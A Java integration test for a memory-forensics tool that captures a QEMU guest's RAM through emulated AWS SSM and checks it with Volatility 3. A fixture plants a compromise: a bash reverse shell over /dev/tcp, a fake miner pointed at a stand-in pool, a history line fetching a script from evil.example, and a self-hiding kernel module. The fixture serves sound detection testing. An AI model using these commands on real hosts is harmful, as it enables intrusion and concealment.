package io.custody.tests;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.custody.collector.testing.SeedScenario;
import io.custody.evidence.HashAlgorithm;
import io.custody.evidence.Json;
import io.custody.evidence.Sha256;
import io.custody.evidence.custody.Acquisitions;
import io.custody.evidence.testing.MotoServer;
import io.custody.evidence.testing.Run;
import io.custody.evidence.workspace.CaseStore;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.DigestInputStream;
import java.security.MessageDigest;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.services.ec2.Ec2Client;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.ssm.SsmClient;

/**
 * Real memory, end to end: a Debian kernel boots in QEMU (TCG) with the lime.ko that {@code custody
 * lime build} made; {@code custody acquire memory} sends the Custody-LiMECapture document through
 * the emulator's SSM; {@link SsmAgentEmulator} runs the document's own script in the guest, which
 * uploads through presigned URLs to the emulator's S3 on the host's loopback. The captured dump must
 * pass {@code custody lime inspect} against the guest's /proc/iomem, have equal host and workstation
 * SHA-256, and open in Volatility 3, whose banners plugin finds the guest kernel's banner.
 */
@ExtendWith(MotoServer.class)
class MemoryCaptureIT {

  static final String BUCKET = "forensic-captures";

  @TempDir Path tmp;

  @Test
  void acquireMemory_realGuest_completeVerifiedAndReadableByVolatility() throws Exception {
    LimeGuest guest = LimeGuest.ensure();
    try (Emulated aws = new Emulated()) {
      String instanceId = aws.instanceId;
      Cli cli = aws.cli;
      Path home = aws.home;
      ok(cli.custody("lime", "publish", "--bucket", BUCKET, guest.modules().toString(), "--endpoint-url", aws.endpoint));
      ok(cli.custody("lime", "install-document", "--endpoint-url", aws.endpoint));
      ok(cli.custody("case", "open", "--case", "IR-MEM", "--examiner", "Jane Doe"));
      SsmAgentEmulator agent = aws.agent(guest);
      agent.hostSetup = COMPROMISED_HOST;
      Run acquire = aws.acquire(agent, "IR-MEM", "--timeout", "15m", "--json");
      LimeGuest.Boot boot = agent.boot.get();
      assertThat(agent.error.get()).as("agent: %s", agent.error.get()).isNull();
      assertThat(acquire.exit()).as("acquire memory: %s\nguest job:\n%s", acquire.err(), boot.job()).isZero();
      assertThat(boot.exit()).as(boot.job()).isZero();
      assertThat(agent.script).doesNotContain("{{");

      JsonNode report = Json.mapper().readTree(acquire.out());
      System.out.println("acquire memory: " + report.path("bytes").asLong() + " bytes in " + report.path("seconds").asDouble() + " s; "
          + aws.hostTiming() + "\n" + acquire.err());
      assertThat(report.path("outcome").asText()).isEqualTo("succeeded");
      assertThat(report.path("kernel_release").asText()).isEqualTo(guest.release);
      assertThat(report.path("method").asText()).isEqualTo("lime");
      assertThat(report.path("method_reason").asText()).contains("has LiME for kernel " + guest.release, "the kernel loaded it");
      // (b) the host's and the workstation's SHA-256 are equal, and equal to the bytes in the case
      String host = report.path("host_sha256").asText();
      assertThat(report.path("workstation_sha256").asText()).isEqualTo(host);
      assertThat(report.path("host_hasher").asText()).as("the guest kernel has sha256: LiME's own digest").isEqualTo("lime-digest");
      Path dump = extract(home, "IR-MEM", report.path("item_id").asText());
      assertThat(sha256(dump).hex()).isEqualTo(host);

      // (a) the dump is complete against the guest's own /proc/iomem, as printed on its console
      Path iomem = tmp.resolve("guest-iomem.txt");
      Files.writeString(iomem, boot.iomem());
      Run inspect = cli.custody("lime", "inspect", dump.toString(), "--iomem", iomem.toString());
      assertThat(inspect.exit()).as(inspect.out() + inspect.err()).isZero();
      assertThat(inspect.out()).contains("LIME OK (complete)");

      // (c) Volatility 3 opens it and its banners plugin finds the guest kernel's banner
      String banner = boot.procVersion();
      long t0 = System.nanoTime();
      Run vol = cli.run(Cli.venvTool("vol"), "-q", "-f", dump.toString(), "banners.Banners");
      System.out.println("volatility banners: " + (System.nanoTime() - t0) / 1_000_000 + " ms\n" + vol.out());
      assertThat(vol.exit()).as(vol.err()).isZero();
      assertThat(vol.out()).contains(banner);

      // custody analyze memory finds the same banner and records its report in the case
      Run analyze = cli.custody("analyze", "memory", "--case", "IR-MEM", "--item", instanceId, "--json");
      assertThat(analyze.exit()).as(analyze.err()).isIn(0, 1);
      JsonNode a = Json.mapper().readTree(analyze.out());
      List<String> banners = new ArrayList<>();
      a.path("banners").forEach(b -> banners.add(b.path("text").asText()));
      assertThat(banners).contains(banner);
      assertThat(a.path("banners").get(0).path("physical_address").asText()).startsWith("0x");

      // (d) from the image and the symbols the host sent, nothing else: Volatility 3 reads the kernel's
      // structures and finds what the guest's own ps, netstat and /proc/modules said before the capture
      assertKernelView(report, a, analyze, boot);

      var kase = CaseStore.at(home, Clock.systemUTC()).load("IR-MEM");
      assertThat(Acquisitions.state(kase.log().verify().entries(), instanceId, "memory")).isEqualTo(Acquisitions.State.SUCCEEDED);
      assertThat(kase.log().verify().intact()).isTrue();
    }
  }

  /**
   * The planted state of {@link #COMPROMISED_HOST}, found from the image and the capture's own
   * symbols: every process of the host's ps, the miner with its executable and pool, the reverse
   * shell's connection and history, the hidden module, and the findings that name them.
   */
  private static void assertKernelView(JsonNode report, JsonNode a, Run analyze, LimeGuest.Boot boot) {
    assertThat(report.path("symbols_item").asText()).as(report.toString()).startsWith("item-");
    JsonNode k = a.path("kernel");
    System.out.println("volatility plugins: " + k.path("plugins") + "\n" + analyze.err());
    assertThat(k.path("status").asText()).as("kernel view: %s\n%s", k, analyze.err()).isEqualTo("ok");
    assertThat(analyze.exit()).as("findings make exit 1").isEqualTo(1);
    Map<Long, String> seenPids = new java.util.HashMap<>();
    k.path("processes").forEach(p -> seenPids.put(p.path("pid").asLong(), p.path("comm").asText()));
    String ps = boot.between("HOST-PS-BEGIN", "HOST-PS-END");
    int listed = 0;
    for (String line : ps.strip().split("\n")) {
      String[] f = line.strip().split("\\s+", 4);
      if (f.length < 3 || !f[0].matches("\\d+") || f[2].equals("ps")) {
        continue; // the header, and ps itself (gone before the capture)
      }
      listed++;
      assertThat(seenPids).as("pid %s of the guest's ps (%s) in Volatility's process list", f[0], line).containsKey(Long.parseLong(f[0]));
    }
    assertThat(listed).isGreaterThan(10);
    long miner = Long.parseLong(marker(boot, "HOST-MINER-PID"));
    long shell = Long.parseLong(marker(boot, "HOST-SHELL-PID"));
    JsonNode minerProc = null;
    for (JsonNode p : k.path("processes")) {
      if (p.path("pid").asLong() == miner) {
        minerProc = p;
      }
    }
    assertThat(minerProc).as("the miner's pid %d", miner).isNotNull();
    assertThat(minerProc.path("exe").asText()).isEqualTo("/var/tmp/.x/xmrig");
    assertThat(minerProc.path("args").asText()).contains("stratum+tcp://pool.minexmr.example:4444");
    boolean connection = false;
    for (JsonNode sock : k.path("sockets")) {
      connection |= sock.path("pid").asLong() == shell && "4445".equals(sock.path("destination_port").asText())
          && "ESTABLISHED".equals(sock.path("state").asText());
    }
    assertThat(connection).as("the reverse shell's connection to 127.0.0.1:4445 with pid %d in %s", shell, k.path("sockets")).isTrue();
    boolean hidden = false;
    for (JsonNode m : k.path("modules")) {
      hidden |= m.path("name").asText().equals("custody_hideme") && m.path("hidden").asBoolean();
    }
    assertThat(hidden).as("custody_hideme reported hidden: %s", k.path("modules")).isTrue();
    assertThat(boot.between("HOST-MODULES-BEGIN", "HOST-MODULES-END")).doesNotContain("custody_hideme");
    List<String> findings = new ArrayList<>();
    a.path("findings").forEach(f -> findings.add(f.path("rule_id").asText() + " " + f.path("address").asText()));
    assertThat(findings).contains("memory-process-from-temp-dir pid " + miner + " (xmrig)", "memory-miner-command-line pid " + miner + " (xmrig)",
        "memory-reverse-shell pid " + shell + " (bash)");
    assertThat(findings).anyMatch(f -> f.startsWith("memory-hidden-module module custody_hideme"));
    boolean history = false;
    for (JsonNode b : k.path("bash")) {
      history |= b.path("pid").asLong() == shell && b.path("command").asText().contains("evil.example");
    }
    assertThat(history).as("the reverse shell's history: %s", k.path("bash")).isTrue();
    assertThat(report.path("check").path("status").asText()).as("the capture's Volatility check").isEqualTo("ok");
  }

  /**
   * The state of a compromised host, made before the capture command runs, and what the host itself
   * says about it (through the serial console, not the image): a "miner" run from /var/tmp with a pool
   * on its command line (bash-static copied there, waiting on a FIFO so it makes no children), an
   * interactive shell whose standard streams are a TCP connection to a listener on the guest's loopback
   * (a reverse shell; the listener sends it two commands for its history), and a kernel module that
   * unlinks itself from the module list (tests/guest/hideme).
   */
  static final String COMPROMISED_HOST = """
      insmod /lib/custody_hideme.ko || echo HOST-HIDEME-FAILED
      mkdir -p /var/tmp/.x && cp /bin/bash /var/tmp/.x/xmrig && mkfifo /var/tmp/.x/f
      sleep 100000 > /var/tmp/.x/f &
      /var/tmp/.x/xmrig -c 'read line' xmrig --donate-level 1 -o stratum+tcp://pool.minexmr.example:4444 < /var/tmp/.x/f >/dev/null 2>&1 &
      echo "HOST-MINER-PID $!"
      (printf 'id\ncurl -s http://evil.example/x.sh -o /dev/null\n'; sleep 100000) | nc -l -p 4445 > /dev/null 2>&1 &
      sleep 1
      bash -c 'exec bash -i <>/dev/tcp/127.0.0.1/4445 >&0 2>&0' &
      echo "HOST-SHELL-PID $!"
      sleep 3
      echo HOST-PS-BEGIN; ps -o pid,ppid,comm,args; echo HOST-PS-END
      echo HOST-NET-BEGIN; netstat -tan; echo HOST-NET-END
      echo HOST-MODULES-BEGIN; cat /proc/modules; echo HOST-MODULES-END
      ls -d /sys/module/custody_hideme
      """;

  /** A memory capture's own record in the custody log (the instance's memory, no item), not an AWS call's or an item's. */
  private static boolean ofTheCapture(io.custody.evidence.custody.CustodyEntry e) {
    return e.aws() == null && e.objects().stream().anyMatch(o -> o.itemId() == null && "memory".equals(o.role()));
  }

  private static String marker(LimeGuest.Boot boot, String name) {
    java.util.regex.Matcher m = java.util.regex.Pattern.compile(name + " (\\d+)").matcher(boot.serial());
    assertThat(m.find()).as("%s in the guest's console:\n%s", name, boot.job()).isTrue();
    return m.group(1);
  }

  /**
   * A kernel whose crypto API has no sha256 (simulated: /proc/crypto hidden behind /dev/null in the
   * guest before the command runs): the host hashes a copy of the stream with sha256sum instead, here
   * with the parts gzip-compressed, and the two ends still agree.
   */
  @Test
  void acquireMemory_kernelWithoutSha256AndGzip_hostHashesWithSha256sum() throws Exception {
    LimeGuest guest = LimeGuest.ensure();
    try (Emulated aws = new Emulated()) {
      ok(aws.cli.custody("lime", "publish", "--bucket", BUCKET, guest.modules().toString(), "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("lime", "install-document", "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("case", "open", "--case", "IR-MEM4", "--examiner", "Jane Doe"));
      SsmAgentEmulator agent = aws.agent(guest);
      agent.hostSetup = "mount -o bind /dev/null /proc/crypto || exit 97\n";
      Run acquire = aws.acquire(agent, "IR-MEM4", "--timeout", "15m", "--compress", "gzip", "--json");
      LimeGuest.Boot boot = agent.boot.get();
      assertThat(agent.error.get()).as("agent: %s", agent.error.get()).isNull();
      assertThat(acquire.exit()).as("acquire memory: %s\nguest job:\n%s", acquire.err(), boot.job()).isZero();
      JsonNode report = Json.mapper().readTree(acquire.out());
      assertThat(report.path("outcome").asText()).isEqualTo("succeeded");
      assertThat(report.path("host_hasher").asText()).isEqualTo("sha256sum");
      assertThat(report.path("workstation_sha256").asText()).isEqualTo(report.path("host_sha256").asText());
      assertThat(report.path("inspection").path("clean").asBoolean()).isTrue();
    }
  }

  /**
   * The library has no module for the guest's kernel (only one for another kernel) but has AVML, as
   * {@code custody lime build --avml} and {@code lime publish} put it there: method auto falls to
   * AVML, which the host fetches into its RAM folder and runs on /proc/kcore, writing LiME format
   * into a FIFO that the host hashes (sha256sum) and uploads like LiME's stream.
   */
  @Test
  void acquireMemory_noModuleButAvmlInLibrary_avmlCapturesCompleteAndVerified() throws Exception {
    LimeGuest guest = LimeGuest.ensure();
    Path avml = avml();
    try (Emulated aws = new Emulated()) {
      otherKernelModule(guest);
      ok(aws.cli.custody("lime", "build", "--avml", avml.toString(), "--out", tmp.resolve("modules").toString()));
      ok(aws.cli.custody("lime", "publish", "--bucket", BUCKET, tmp.resolve("modules").toString(), "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("lime", "install-document", "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("case", "open", "--case", "IR-MEM5", "--examiner", "Jane Doe"));
      SsmAgentEmulator agent = aws.agent(guest);
      agent.hostSetup = COMPROMISED_HOST;
      Run acquire = aws.acquire(agent, "IR-MEM5", "--timeout", "15m", "--json");
      LimeGuest.Boot boot = agent.boot.get();
      assertThat(agent.error.get()).as("agent: %s", agent.error.get()).isNull();
      assertThat(acquire.exit()).as("acquire memory: %s\nguest job:\n%s", acquire.err(), boot.job()).isZero();
      JsonNode report = Json.mapper().readTree(acquire.out());
      System.out.println("acquire memory (AVML): " + report.path("bytes").asLong() + " bytes in " + report.path("seconds").asDouble() + " s; "
          + aws.hostTiming() + "\n" + acquire.err());
      assertThat(report.path("outcome").asText()).isEqualTo("succeeded");
      assertThat(report.path("method").asText()).isEqualTo("avml");
      assertThat(report.path("method_reason").asText()).isEqualTo("no LiME module for kernel " + guest.release + " in the module library");
      assertThat(report.path("host_hasher").asText()).isEqualTo("sha256sum");
      String host = report.path("host_sha256").asText();
      assertThat(report.path("workstation_sha256").asText()).isEqualTo(host);
      assertThat(boot.job()).contains("AVML reading /proc/kcore", "status ok", "method avml").doesNotContain("LiME listening");
      Path dump = extract(aws.home, "IR-MEM5", report.path("item_id").asText());
      assertThat(sha256(dump).hex()).isEqualTo(host);
      Path iomem = tmp.resolve("guest-iomem.txt");
      Files.writeString(iomem, boot.iomem());
      // AVML's LiME has records of at most 16 MiB, none for a block it read as all zero, and whole pages
      // of /proc/kcore only: whole as AVML writes it (--avml), not to the check of one record per range
      Run inspect = aws.cli.custody("lime", "inspect", dump.toString(), "--iomem", iomem.toString(), "--avml");
      System.out.println(inspect.out());
      assertThat(inspect.exit()).as(inspect.out() + inspect.err()).isZero();
      assertThat(inspect.out()).contains("LIME OK (complete");
      assertThat(report.path("inspection").path("clean").asBoolean()).isTrue();
      assertThat(aws.cli.custody("lime", "inspect", dump.toString(), "--iomem", iomem.toString()).exit()).isNotZero();
      var kase = CaseStore.at(aws.home, Clock.systemUTC()).load("IR-MEM5");
      assertThat(Acquisitions.state(kase.log().verify().entries(), aws.instanceId, "memory")).isEqualTo(Acquisitions.State.SUCCEEDED);
      assertThat(kase.log().verify().entries()).anyMatch(e -> String.valueOf(e.notes()).contains("method avml (no LiME module for kernel"));
      // the same checks of the kernel's view as with LiME
      Run analyze = aws.cli.custody("analyze", "memory", "--case", "IR-MEM5", "--item", aws.instanceId, "--json");
      assertThat(analyze.exit()).as(analyze.err()).isIn(0, 1);
      assertKernelView(report, Json.mapper().readTree(analyze.out()), analyze, boot);
    }
  }

  @Test
  void acquireMemory_noModuleForTheGuestKernel_hostStopsUploadAbortedMemoryUnfinished() throws Exception {
    LimeGuest guest = LimeGuest.ensure();
    try (Emulated aws = new Emulated()) {
      String instanceId = aws.instanceId;
      S3Client s3 = aws.s3;
      // the library holds a module, but only for another kernel
      otherKernelModule(guest);
      ok(aws.cli.custody("lime", "publish", "--bucket", BUCKET, tmp.resolve("modules").toString(), "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("lime", "install-document", "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("case", "open", "--case", "IR-MEM2", "--examiner", "Jane Doe"));
      SsmAgentEmulator agent = aws.agent(guest);
      Run acquire = aws.acquire(agent, "IR-MEM2", "--timeout", "10m");
      assertThat(agent.error.get()).isNull();
      LimeGuest.Boot boot = agent.boot.get();
      assertThat(acquire.exit()).as(acquire.err()).isEqualTo(5);
      // method auto, but the library has no AVML either
      assertThat(acquire.err()).contains("no LiME module for kernel " + guest.release + " in the module library; the module library has no AVML");
      assertThat(boot.exit()).isNotZero();
      assertThat(boot.job()).contains("status failed", "module not-loaded").doesNotContain("LiME listening");
      assertThat(s3.listMultipartUploads(b -> b.bucket(BUCKET)).uploads()).isEmpty();
      assertThat(s3.listObjectsV2(b -> b.bucket(BUCKET).prefix("custody/")).contents()).extracting(o -> o.key())
          .noneMatch(k -> k.endsWith("/memory.lime")).anyMatch(k -> k.endsWith("/result.json"));
      var kase = CaseStore.at(aws.home, Clock.systemUTC()).load("IR-MEM2");
      assertThat(Acquisitions.state(kase.log().verify().entries(), instanceId, "memory")).isEqualTo(Acquisitions.State.UNFINISHED);
      assertThat(kase.items()).isEmpty();
    }
  }

  @Test
  void acquireMemory_buildOnHostAllowedButNoHeaders_hostRefusesWithReason() throws Exception {
    LimeGuest guest = LimeGuest.ensure();
    try (Emulated aws = new Emulated()) {
      // a library with LiME's source but no module for the guest's kernel; the guest has no headers
      otherKernelModule(guest);
      Path src = Files.createDirectories(tmp.resolve("src/lime"));
      Files.writeString(src.resolve("main.c"), "/* LiME */\n");
      assertThat(new ProcessBuilder("tar", "-czf", tmp.resolve("modules/lime-source.tar.gz").toString(), "-C", tmp.resolve("src").toString(), "lime")
          .start().waitFor()).isZero();
      ok(aws.cli.custody("lime", "publish", "--bucket", BUCKET, tmp.resolve("modules").toString(), "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("lime", "install-document", "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("case", "open", "--case", "IR-MEM3", "--examiner", "Jane Doe"));
      SsmAgentEmulator agent = aws.agent(guest);
      Run acquire = aws.acquire(agent, "IR-MEM3", "--timeout", "10m", "--allow-build-on-host");
      assertThat(agent.error.get()).isNull();
      assertThat(acquire.exit()).as(acquire.err()).isEqualTo(5);
      assertThat(acquire.err()).contains("no kernel headers at /lib/modules/" + guest.release + "/build");
      assertThat(agent.boot.get().job()).contains("status failed", "module not-loaded");
      assertThat(aws.s3.listMultipartUploads(b -> b.bucket(BUCKET)).uploads()).isEmpty();
    }
  }

  /**
   * A host whose /proc/version is not its kernel's banner (a bind mount over it, made before the
   * command runs): the symbol table the capture makes carries that banner, by which Volatility picks a
   * table for an image, so it finds no table for this image, as with a capture it cannot use. The file
   * has no newline, and nothing prints it: Volatility looks for the banner as the kernel keeps it
   * (ending in a newline and NUL), and a copy of it so ended anywhere in the guest's RAM (the file's
   * page, a terminal's buffer) would be found and the table used after all.
   */
  static final String FAKE_BANNER = """
      printf '%s' 'Linux version 0.0.0-fake (nobody@nowhere) #1' > /tmp/fake-version || exit 97
      mount -o bind /tmp/fake-version /proc/version || exit 97
      """;

  /**
   * The Volatility check after each capture and --retry: a capture Volatility cannot use fails the
   * check, is kept but recorded partial (exit 4, the memory acquisition not succeeded in the custody
   * log, so contain --stop refuses); with --retry 1 the host is captured again (a second command, a
   * second boot, its real banner this time) and the second capture checks ok. Three boots in all.
   */
  @Test
  void acquireMemory_checkFailsThenRetry_firstKeptPartialSecondChecksOk() throws Exception {
    LimeGuest guest = LimeGuest.ensure();
    try (Emulated aws = new Emulated()) {
      String instanceId = aws.instanceId;
      ok(aws.cli.custody("lime", "publish", "--bucket", BUCKET, guest.modules().toString(), "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("lime", "install-document", "--endpoint-url", aws.endpoint));
      ok(aws.cli.custody("case", "open", "--case", "IR-MEM5", "--examiner", "Jane Doe"));

      // without --retry: the unusable capture is kept, partial, and the host is left running
      SsmAgentEmulator agent = aws.agent(guest);
      agent.hostSetup = FAKE_BANNER;
      Run first = aws.acquire(agent, "IR-MEM5", "--timeout", "15m", "--json");
      assertThat(agent.error.get()).as("agent: %s", agent.error.get()).isNull();
      LimeGuest.Boot boot = agent.boot.get();
      assertThat(boot.exit()).as(boot.job()).isZero();
      assertThat(first.exit()).as("acquire memory: %s\nguest job:\n%s", first.err(), boot.job()).isEqualTo(4);
      assertThat(first.err()).contains("Failed to capture usable memory", "Volatility 3 could not walk the process list",
          "could not find the kernel in the image", "the host was left running", "--retry");
      var kase = CaseStore.at(aws.home, Clock.systemUTC()).load("IR-MEM5");
      var log = kase.log().verify();
      assertThat(log.intact()).isTrue();
      assertThat(Acquisitions.state(log.entries(), instanceId, "memory")).isEqualTo(Acquisitions.State.UNFINISHED);
      assertThat(log.entries()).filteredOn(e -> "acquired".equals(e.event()) && ofTheCapture(e) && e.outcome() == io.custody.evidence.custody.Outcome.PARTIAL)
          .singleElement().satisfies(e -> assertThat(e.notes()).contains("Volatility check (attempt 1): failed"));
      // the image and the symbols it came with are kept; the host sent its (false) banner
      assertThat(kase.items()).extracting(i -> i.type().label()).containsExactlyInAnyOrder("memory", "symbols");
      var symbols = kase.items().stream().filter(i -> i.type().label().equals("symbols")).findFirst().orElseThrow();
      assertThat(symbols.files()).contains("btf", "kallsyms", "proc-version");
      assertThat(Files.readString(kase.dir().resolve(symbols.dir()).resolve("proc-version"))).isEqualTo("Linux version 0.0.0-fake (nobody@nowhere) #1");

      // with --retry 1: captured again; the second host shows its real banner
      SsmAgentEmulator again = aws.agent(guest);
      again.hostSetups = List.of(FAKE_BANNER, "");
      Run retried = aws.acquire(again, "IR-MEM5", "--timeout", "15m", "--retry", "1", "--json");
      assertThat(again.error.get()).as("agent: %s", again.error.get()).isNull();
      assertThat(again.boots).hasSize(2);
      assertThat(retried.exit()).as("acquire memory --retry 1: %s\nsecond guest job:\n%s", retried.err(), again.boot.get().job()).isZero();
      assertThat(retried.err()).contains("capturing again (attempt 2 of 2)");
      JsonNode report = Json.mapper().readTree(retried.out());
      System.out.println("acquire memory --retry 1: " + report.path("check") + "\n" + retried.err());
      assertThat(report.path("outcome").asText()).isEqualTo("succeeded");
      assertThat(report.path("check").path("status").asText()).isEqualTo("ok");
      assertThat(report.path("check").path("attempt").asInt()).isEqualTo(2);
      assertThat(report.path("check").path("processes").asInt()).isGreaterThan(10);
      kase = CaseStore.at(aws.home, Clock.systemUTC()).load("IR-MEM5");
      log = kase.log().verify();
      assertThat(log.intact()).isTrue();
      assertThat(Acquisitions.state(log.entries(), instanceId, "memory")).isEqualTo(Acquisitions.State.SUCCEEDED);
      assertThat(log.entries()).filteredOn(e -> "acquired".equals(e.event()) && ofTheCapture(e) && e.outcome() == io.custody.evidence.custody.Outcome.PARTIAL)
          .hasSize(2);
      assertThat(log.entries()).filteredOn(e -> "acquired".equals(e.event()) && ofTheCapture(e) && e.outcome() == io.custody.evidence.custody.Outcome.SUCCEEDED)
          .singleElement().satisfies(e -> assertThat(e.notes()).contains("Volatility check (attempt 2): ok"));
      assertThat(kase.items()).extracting(i -> i.type().label()).containsExactlyInAnyOrder("memory", "symbols", "memory", "symbols", "memory",
          "symbols");
    }
  }

  /**
   * The emulator's side of a capture: the capture bucket, an instance to capture, clients, and the
   * custody CLI pointed at the emulator through the default credential chain.
   */
  private final class Emulated implements AutoCloseable {
    final String endpoint = MotoServer.endpoint().toString();
    final S3Client s3;
    final Ec2Client ec2;
    final SsmClient ssm;
    final String instanceId;
    final Path home = tmp.resolve("home");
    final Cli cli = new Cli(home).env("AWS_ACCESS_KEY_ID", MotoServer.ACCESS_KEY).env("AWS_SECRET_ACCESS_KEY", MotoServer.SECRET_KEY)
        .env("AWS_REGION", MotoServer.REGION).env("AWS_EC2_METADATA_DISABLED", "true");

    Emulated() {
      s3 = SeedScenario.client(S3Client.builder().forcePathStyle(true), MotoServer.endpoint(), MotoServer.REGION);
      ec2 = SeedScenario.client(Ec2Client.builder(), MotoServer.endpoint(), MotoServer.REGION);
      ssm = SeedScenario.client(SsmClient.builder(), MotoServer.endpoint(), MotoServer.REGION);
      s3.createBucket(b -> b.bucket(BUCKET));
      String ami = ec2.describeImages(b -> b.owners("amazon")).images().get(0).imageId();
      instanceId = ec2.runInstances(b -> b.imageId(ami).instanceType("t3.micro").minCount(1).maxCount(1)).instances().get(0).instanceId();
    }

    /** The guest playing the instance's SSM agent, relaying its uploads to the emulator. */
    SsmAgentEmulator agent(LimeGuest guest) {
      return new SsmAgentEmulator(ssm, instanceId, guest, tmp.resolve("job"), Map.of("RELAY_PORTS", Integer.toString(MotoServer.endpoint().getPort())));
    }

    /** custody acquire memory of the instance while the agent runs the command; returns when both are done. */
    Run acquire(SsmAgentEmulator agent, String caseId, String... more) throws InterruptedException {
      Thread t = new Thread(agent, "ssm-agent");
      t.start();
      List<String> args = new ArrayList<>(List.of("acquire", "memory", "--case", caseId, "--instance", instanceId, "--bucket", BUCKET,
          "--endpoint-url", endpoint, "--poll", "2s", "--port", "4444", "--no-progress"));
      args.addAll(List.of(more));
      Run r = cli.custody(args.toArray(String[]::new));
      agent.clientDone = true;
      t.join();
      return r;
    }

    /** What the host's result.json says of the capture's own time (module or AVML started to stream done). */
    String hostTiming() throws IOException {
      String key = s3.listObjectsV2(b -> b.bucket(BUCKET).prefix("custody/")).contents().stream().map(o -> o.key())
          .filter(k -> k.endsWith("/result.json")).reduce((a, b) -> b).orElseThrow();
      JsonNode r = Json.mapper().readTree(s3.getObjectAsBytes(b -> b.bucket(BUCKET).key(key)).asByteArray());
      double secs = Double.parseDouble(r.path("uptime").path("captured").asText()) - Double.parseDouble(r.path("uptime").path("module_loaded").asText());
      long bytes = r.path("bytes").asLong();
      return String.format(java.util.Locale.ROOT, "host: %s streamed %d bytes in %.1f s (%.1f MiB/s)", r.path("method").asText(), bytes, secs,
          bytes / 1048576.0 / Math.max(secs, 0.001));
    }

    @Override
    public void close() {
      s3.close();
      ec2.close();
      ssm.close();
    }
  }

  /** tmp/modules/5.10.0-99-amd64/lime.ko: the guest's module relabelled for another kernel. */
  private void otherKernelModule(LimeGuest guest) throws IOException {
    Path other = Files.createDirectories(tmp.resolve("modules/5.10.0-99-amd64"));
    byte[] ko = Files.readAllBytes(guest.modules().resolve(guest.release).resolve("lime.ko"));
    String text = new String(ko, java.nio.charset.StandardCharsets.ISO_8859_1).replace("vermagic=" + guest.release, "vermagic=5.10.0-99-amd64");
    Files.write(other.resolve("lime.ko"), text.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
  }

  private static void ok(Run r) {
    assertThat(r.exit()).as(r.err()).isZero();
  }

  /** The AVML binary that scripts/avml builds once into the cache (cargo, crates.io). */
  private static Path avml() {
    Run r = Run.of(Cli.REPO.toFile().toPath(), Map.of(), List.of(Cli.REPO.resolve("scripts/avml").toString(), "build"));
    if (r.exit() != 0) {
      throw new IllegalStateException("AVML cannot be built here (scripts/avml build exit " + r.exit() + "):\n" + r.err());
    }
    String[] lines = r.out().strip().split("\n");
    return Path.of(lines[lines.length - 1]);
  }

  /** cat the item's segments | zstd -dc, as VERIFY.txt would. */
  private Path extract(Path home, String caseId, String itemId) throws IOException, InterruptedException {
    Path caseDir = home.resolve("cases/" + caseId);
    JsonNode item = Json.mapper().readTree(Files.readAllBytes(caseDir.resolve("items/" + itemId + ".json")));
    List<String> cmd = new ArrayList<>(List.of("zstd", "-dc", "-q"));
    item.path("segments").forEach(s -> cmd.add(caseDir.resolve(item.path("dir").asText()).resolve(s.path("file").asText()).toString()));
    Path out = tmp.resolve("memory.lime");
    Process p = new ProcessBuilder(cmd).redirectOutput(out.toFile()).redirectError(ProcessBuilder.Redirect.INHERIT).start();
    assertThat(p.waitFor()).isZero();
    return out;
  }

  private static Sha256 sha256(Path f) throws IOException {
    MessageDigest d = HashAlgorithm.SHA256.newDigest();
    try (InputStream in = new DigestInputStream(Files.newInputStream(f), d)) {
      in.transferTo(java.io.OutputStream.nullOutputStream());
    }
    return Sha256.of(d.digest());
  }
}
